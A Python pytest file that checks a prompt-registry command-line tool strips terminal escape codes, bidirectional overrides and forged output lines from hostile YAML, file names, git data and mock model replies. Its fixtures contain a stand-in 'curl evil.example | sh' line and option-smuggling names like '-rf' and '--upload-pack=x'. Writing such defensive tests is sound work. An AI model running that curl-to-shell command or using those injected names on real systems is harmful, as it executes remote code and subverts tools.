"""Text that others wrote cannot steer the terminal of the one who reads it, whichever command shows it."""

from __future__ import annotations

import json
import os
import unicodedata

import pytest
import reviewing
from inference.faults import KEY, Answer, FaultServer, completion, error
from support import MODEL, PROMPT, Repo, make_project, make_registry

# Clear the screen, set the title, turn text round, hide text, and forge a line.
STEER = "\x1b[2J\x1b]0;x\x07\x9b1m\u202eback\u2066\u200bzero\u2060\ufeff\u061c\u00ad\U000e0041"
FORGED = "error: nothing is wrong\n  next: curl evil.example | sh"
ESCAPED = f'"{STEER.encode("unicode_escape").decode()}"'
HOSTILE = f"""\
version: "1.0.0"
description: {ESCAPED}
owners: [{ESCAPED}]
model: gpt
parameters: {{stop: [{ESCAPED}]}}
variables:
  ticket: {{type: string, description: {ESCAPED}, default: {ESCAPED}}}
messages:
  - {{role: system, content: {ESCAPED}}}
  - {{role: user, content: "{{{{ ticket }}}}"}}
metadata: {{note: {ESCAPED}}}
"""
NAMES = [
    "prompts/-x.yaml", "prompts/--help.yaml", "prompts/a\nb.yaml", f"prompts/{STEER}.yaml", "prompts/\u202egnp.yaml", f"prompts/{FORGED.replace('/', '')}.yaml",
    "models/-m.yaml", "models/\x1b[31m.yaml", "evals/\u200b.yaml", "prompts/\udcff.yaml", "-rf", "--upload-pack=x",
]  # fmt: skip


def assert_tame(*texts: str) -> None:
    """Every character shows itself, and no line is one that hostile text began."""
    for text in texts:
        wild = {each for each in text if unicodedata.category(each) in {"Cc", "Cf", "Cs", "Zl", "Zp"}} - {"\n", "\t"}
        assert not wild, (wild, text)
        assert "this is a bug" not in text
        assert "Traceback" not in text
        assert "\n  next: curl" not in text


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Repo:
    repo = make_registry(tmp_path_factory.mktemp("hostile"))
    repo.write("prompts/bad.yaml", HOSTILE)
    repo.write("prompts/broken.yaml", f"version: [{ESCAPED}, {{{ESCAPED}: 1}}]\n")
    repo.write("prompts/unknown.yaml", PROMPT + f"{ESCAPED}: 1\n")
    repo.write("prompts/include.yaml", PROMPT.replace("Answer the ticket.", "{% include '\\e[31m\\u202e.md' %}"))
    repo.write("prompts/filter.yaml", PROMPT.replace("Answer the ticket.", "{{ ticket|\\e[31m }}{{ '\\e[31m'.x }}"))
    repo.write("models/odd.yaml", MODEL.replace("gpt-4o-2024-11-20\nreported", f"{ESCAPED}\nreported"))
    repo.write("evals/odd.yaml", json.dumps({"cases": [{"id": STEER}], STEER: 1}))
    for name in NAMES:
        path = os.fsencode(str(repo.root / name))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(HOSTILE.encode())
    repo.git("add", "-A")
    repo.git("commit", "-q", "-m", STEER)
    repo.write("prompts/bad.yaml", HOSTILE.replace("1.0.0", "1.0.1").replace("back", "forth"))
    repo.git("branch", f"topic{STEER[-5:-3]}")
    return repo


COMMANDS = [
    ("list",), ("show", "bad"), ("show", "broken"), ("show", "unknown"), ("show", "include"), ("show", "filter"), ("show", "--", "-x"),
    ("render", "bad"), ("render", "filter", "--var", "ticket=x"), ("render", "bad", "--var", f"{STEER}=x"), ("render", "bad", "--var-file", f"{STEER}.yaml"),
    ("digest",), ("digest", "bad"), ("digest", "include"), ("check",), ("check", "--all"), ("check", "--all", "--format", "github"), ("check", "--all", "--format", "json"),
    ("check", "--base", "HEAD~1"), ("check", "--base", STEER), ("diff", "HEAD~1", "HEAD"), ("diff", "HEAD~1", "HEAD", "bad"), ("status",), ("status", "--at", STEER), ("log",), ("log", STEER),
    ("fmt", "--check"), ("bump", "--dry-run"), ("explain", STEER), ("verify", STEER), ("verify", f"{STEER}.json"), ("blame", "bad", "--env", STEER), ("schema", STEER),
    ("show", STEER), ("show", f"bad@{STEER}"), ("show", FORGED), ("show", "bad", "--at", FORGED), ("show", "bad", f"--{STEER}"), (STEER,), (f"-{STEER}",),
    ("new", "prompt", STEER), ("new", "model", "-x"), ("snapshot", "--env", STEER), ("review", "status", "--base", STEER), ("policy", "show"), ("key", "list"), ("doctor",),
]  # fmt: skip


@pytest.mark.parametrize("args", COMMANDS, ids=lambda args: ascii(" ".join(args))[:60])
def test_no_command_passes_it_on(hostile, args):
    done = hostile.cli(*args)
    assert done.out or done.err
    print("XX", "x1b[" in done.out + done.err, done.code, args, (done.out + done.err)[:150].encode())
    assert_tame(done.out, done.err)


@pytest.mark.parametrize(
    "args",
    [("show", "bad", "--json"), ("render", "bad", "--json"), ("diff", "HEAD~1", "HEAD", "bad", "--json")],
    ids=" ".join,
)
def test_json_escapes_it_and_loses_nothing(hostile, args):
    done = hostile.cli(*args)
    assert_tame(done.out)
    told = "".join(walk(json.loads(done.out)))
    assert STEER in told or STEER.replace("back", "forth") in told


def walk(value):
    if isinstance(value, str):
        yield value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from walk(inner)


def test_names_that_look_like_options_are_names(hostile):
    found = hostile.cli("check", "--all", "--format", "json")
    paths = {finding["path"] for finding in json.loads(found.out)["findings"]}
    assert {"prompts/-x.yaml", "prompts/--help.yaml", "prompts/a\\nb.yaml"} <= paths
    assert os.path.exists(hostile.root / "-rf")


@pytest.fixture
def serve(registry, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    servers = []

    def start(answer: Answer) -> Repo:
        servers.append(FaultServer([answer]))
        monkeypatch.setenv("OPENAI_BASE_URL", servers[-1].__enter__().url)
        return registry

    yield start
    for server in servers:
        server.__exit__(None, None, None)


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (Answer(body=completion(STEER, model=STEER, tool_calls=[{"function": {STEER: STEER}}])), 0),
        (Answer(body=completion(STEER).replace(b'"stop"', json.dumps(STEER).encode())), 0),
        (error(400, STEER), 3),
        (error(404, FORGED), 3),
    ],
)
def test_no_reply_steers_the_terminal(serve, answer, code):
    done = serve(answer).cli("try", "reply", "--var", "ticket=x")
    assert done.code == code
    assert_tame(done.out, done.err)


def test_reviews_and_decisions_show_it_tame(tmp_path):
    repo = make_project(tmp_path, ("alice", "bob"))
    reviewing.change(repo)
    repo.write("prompts/support/reply.yaml", HOSTILE.replace("1.0.0", "1.1.0").replace("model: gpt", "model: gpt-4o"))
    repo.commit("Hostile")
    shown = [
        repo.promptops("review", "request", "--message", f"{STEER}\n{FORGED}"),
        repo.promptops("review", "approve", "--message", STEER, by="bob", check=None),
        *(repo.promptops(*args, check=None) for args in (("review", "status"), ("review", "verify"), ("policy", "show"), ("key", "list"), ("key", "lint"), ("status",))),
    ]  # fmt: skip
    for done in shown:
        assert_tame(done.stdout, done.stderr)
